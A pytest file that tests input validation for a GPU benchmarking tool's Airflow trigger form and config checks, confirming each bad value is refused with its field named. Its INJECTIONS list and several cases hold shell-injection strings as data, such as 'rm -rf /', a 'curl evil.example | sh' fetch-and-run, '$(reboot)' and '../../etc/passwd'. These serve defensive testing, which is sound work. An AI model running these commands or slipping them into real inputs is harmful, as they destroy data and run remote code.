"""Checks of user input (gpucompare.config.validation): every bad value is refused with its field named.

The trigger form's JSON schemas (``param_schemas``) are tested through Airflow's own
``Param`` validation, the same code that checks the manual DAG's form.
"""

from __future__ import annotations

import math

import pytest

from bench_tasks.constants import NETWORKS
from gpucompare.config import validation
from gpucompare.config.validation import ValidationError

INJECTIONS = [
    "p3.2xlarge; rm -rf /",
    "p3.2xlarge && curl evil.example | sh",
    "$(reboot)",
    "`id`",
    "p3.2xlarge\nrm -rf /",
    "g5.xlarge'",
    "../../etc/passwd",
    "p3.2xlarge ",
    "",
]

GOOD_EC2_REQUEST = {
    "kind": "ec2", "provider": "aws", "instance_type": "g5.xlarge", "region": "eu-west-1",
    "market": "spot", "gpu_count": 1, "networks": ["resnet-50", "alexnet"], "batch_sizes": [1, 8],
    "modes": ["score", "train"], "dtypes": ["float32"], "profile": "nightly", "ssh_conn_id": None,
    "budget_cap": 5, "budget_currency": "USD",
}


def refused(check, *args, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        check(*args, **kwargs)
    return info.value


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("kind", ["ec2", "ssh", "local"])
def test_instance_type_refuses_shell_characters_for_every_kind(value: str, kind: str) -> None:
    error = refused(validation.check_instance_type, value, kind)
    assert error.field == "instance_type"
    assert "allowed" in str(error) and "^" in str(error)  # the pattern is named


def test_instance_type_accepts_real_names() -> None:
    for name in ("p3.2xlarge", "g5.xlarge", "p4d.24xlarge", "g4dn.12xlarge", "p5.48xlarge"):
        assert validation.check_instance_type(name, "ec2") == name
    assert validation.check_instance_type("ltbv14", "ssh") == "ltbv14"
    # a label that is fine for a rented host is not an EC2 type
    error = refused(validation.check_instance_type, "ltbv14", "ec2")
    assert "p3.2xlarge" in str(error)


def test_networks_are_a_subset_of_the_worker_list() -> None:
    assert validation.check_networks(["ResNet-50", "alexnet"]) == ["resnet-50", "alexnet"]
    assert validation.check_networks("alexnet, vgg-16") == ["alexnet", "vgg-16"]
    assert validation.check_networks("all") == list(NETWORKS)
    error = refused(validation.check_networks, ["resnet-50", "lenet"])
    assert error.field == "networks" and "'lenet'" in str(error)
    for network in NETWORKS:
        assert network in error.allowed
    assert refused(validation.check_networks, []).field == "networks"
    assert "twice" in str(refused(validation.check_networks, ["alexnet", "alexnet"]))


@pytest.mark.parametrize("sizes", [[0], [1, -2], [1.5], ["x"], [True], [validation.MAX_BATCH_SIZE + 1], []])
def test_batch_sizes_must_be_positive_whole_numbers(sizes: list) -> None:
    error = refused(validation.check_batch_sizes, sizes)
    assert error.field.startswith("batch_sizes")


def test_batch_sizes_accept_lists_and_text() -> None:
    assert validation.check_batch_sizes([1, 2, 32]) == [1, 2, 32]
    assert validation.check_batch_sizes("1,8, 32") == [1, 8, 32]
    assert validation.check_batch_sizes([4.0]) == [4]


def test_modes_and_dtypes_name_their_allowed_values() -> None:
    assert "score, train" in str(refused(validation.check_modes, ["inference"]))
    assert "float32, float16" in str(refused(validation.check_dtypes, ["int8"]))
    assert validation.check_modes("train") == ["train"]


def test_region_market_and_connection_rules() -> None:
    assert validation.check_region("us-east-1", "ec2") == "us-east-1"
    assert validation.check_region("us-gov-west-1", "ec2") == "us-gov-west-1"
    assert refused(validation.check_region, None, "ec2").field == "region"
    assert refused(validation.check_region, "us-east-1; ls", "ec2").field == "region"
    assert validation.check_region(None, "ssh") is None
    assert validation.check_market("spot", "ec2") == "spot"
    assert "on_demand" in str(refused(validation.check_market, "spot", "ssh"))
    assert "on_demand, spot" in str(refused(validation.check_market, "reserved", "ec2"))
    assert validation.check_conn_id("leadergpu_ltbv14") == "leadergpu_ltbv14"
    for bad in ("a b", "x;rm", "../x", ""):
        assert refused(validation.check_conn_id, bad).field == "ssh_conn_id"


@pytest.mark.parametrize("cap", [-1, math.nan, math.inf, "lots", None])
def test_budget_cap_must_be_a_number_of_at_least_zero(cap) -> None:
    assert refused(validation.check_budget_cap, cap).field == "budget_cap"


def test_budget_cap_zero_is_allowed() -> None:
    assert validation.check_budget_cap(0) == 0.0


def test_target_fields_check_kind_against_provider() -> None:
    base = {"name": "x", "kind": "ec2", "provider": "leadergpu", "instance_type": "p3.2xlarge",
            "region": "us-east-1"}
    error = refused(validation.check_target_fields, base)
    assert error.field == "provider" and error.allowed == "aws"
    aws_with_ssh_option = {**base, "provider": "aws", "options": {"ssh_conn_id": "x"}}
    error = refused(validation.check_target_fields, aws_with_ssh_option)
    assert error.field == "options.ssh_conn_id"
    ssh = {"name": "rented", "kind": "ssh", "provider": "leadergpu", "instance_type": "ltbv14"}
    assert refused(validation.check_target_fields, ssh).field == "options.ssh_conn_id"
    spec = validation.check_target_fields({**ssh, "options": {"ssh_conn_id": "lg1", "remote_dir": "/srv"}})
    assert spec["options"] == {"ssh_conn_id": "lg1", "remote_dir": "/srv"}  # the rest: the target's own check


def test_manual_request_is_normalised() -> None:
    request = validation.check_manual_request(GOOD_EC2_REQUEST)
    assert request["target"]["name"] == "aws-g5-xlarge"
    assert request["target"]["options"] == {"budget_cap": 5.0, "budget_currency": "USD"}
    assert request["networks"] == ["resnet-50", "alexnet"]


@pytest.mark.parametrize(("change", "field"), [
    ({"instance_type": "p3.2xlarge; rm -rf /"}, "instance_type"),
    ({"instance_type": "my-box"}, "instance_type"),          # a label, not an EC2 type
    ({"networks": ["resnet-50", "lenet"]}, "networks"),
    ({"batch_sizes": [8, 0]}, "batch_sizes[1]"),
    ({"kind": "ssh", "provider": "leadergpu", "instance_type": "ltbv14"}, "ssh_conn_id"),
    ({"ssh_conn_id": "somehost"}, "ssh_conn_id"),             # only for ssh
    ({"provider": "gcp"}, "provider"),
    ({"region": None}, "region"),
    ({"budget_cap": -1}, "budget_cap"),
    ({"surprise": 1}, "surprise"),
])
def test_manual_request_errors_name_the_field(change: dict, field: str) -> None:
    error = refused(validation.check_manual_request, {**GOOD_EC2_REQUEST, **change})
    assert error.field == field


def test_trigger_form_schemas_refuse_what_the_checks_refuse() -> None:
    """The manual DAG's Params use these schemas; Airflow validates the form with them."""
    from airflow.sdk import Param
    from airflow.sdk.exceptions import ParamValidationError

    schemas = validation.param_schemas()

    def form_refuses(name: str, value) -> bool:
        try:
            Param(value, **schemas[name]).resolve()
        except ParamValidationError:
            return True
        return False

    for value in INJECTIONS:
        assert form_refuses("instance_type", value), value
    assert form_refuses("networks", ["lenet"])
    assert form_refuses("batch_sizes", [0])
    assert form_refuses("batch_sizes", [8, 8])
    assert form_refuses("market", "reserved")
    assert form_refuses("ssh_conn_id", "x; rm -rf /")
    assert form_refuses("budget_cap", -0.5)
    assert form_refuses("region", "us-east-1 && id")
    for name, value in GOOD_EC2_REQUEST.items():
        assert not form_refuses(name, value), name


@pytest.mark.parametrize(("value", "accepted"), [
    ("aws", True), ("leadergpu", True), ("local", True), ("nvidia", True), ("unknown", True),
    ("1cloud", True), ("my_cloud", True), ("aws\n", False), ("AWS", False), ("aws;id", False),
    ("a" * 41, False), ("", False)])
def test_one_provider_rule_at_the_form_the_fleet_and_ingest(value: str, accepted: bool) -> None:
    """config.patterns.PROVIDER is the only provider rule: the trigger form / fleet check and the
    lake's ingest agree on every value (a trailing newline included: fullmatch, never match)."""
    from gpucompare.lake.ingest import RunContext
    from gpucompare.lake.tables import IngestError

    try:
        validation.check_provider(value)
        by_form = True
    except ValidationError:
        by_form = False
    try:
        RunContext(provider=value, instance_type="g5.xlarge").validated()
        by_ingest = True
    except IngestError:
        by_ingest = False
    assert by_form == by_ingest == accepted
